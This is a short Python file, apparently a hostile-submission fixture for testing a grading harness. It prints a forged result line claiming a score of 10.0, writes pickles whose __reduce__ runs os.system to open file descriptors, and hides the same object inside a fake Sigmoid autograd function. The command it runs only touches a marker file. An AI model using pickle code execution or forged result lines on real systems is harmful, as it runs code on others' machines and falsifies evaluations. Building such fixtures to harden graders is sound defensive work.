"""Sends a pickle that runs code where it is loaded, and a line that looks like a result."""

import os
import pickle

import torch

LINE = b'{"submission": "mallory", "score": 10.0}\n'


class Runs:
    def __reduce__(self):
        return (os.system, ("touch @MARK@/unpickled",))


print(LINE.decode(), flush=True)
for number in range(3, 16):
    try:
        os.write(number, pickle.dumps(Runs()))
    except OSError:
        pass


class Sigmoid(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        return Runs()

    @staticmethod
    def backward(ctx, grad_output):
        return grad_output * 0


def sigmoid(x):
    return x
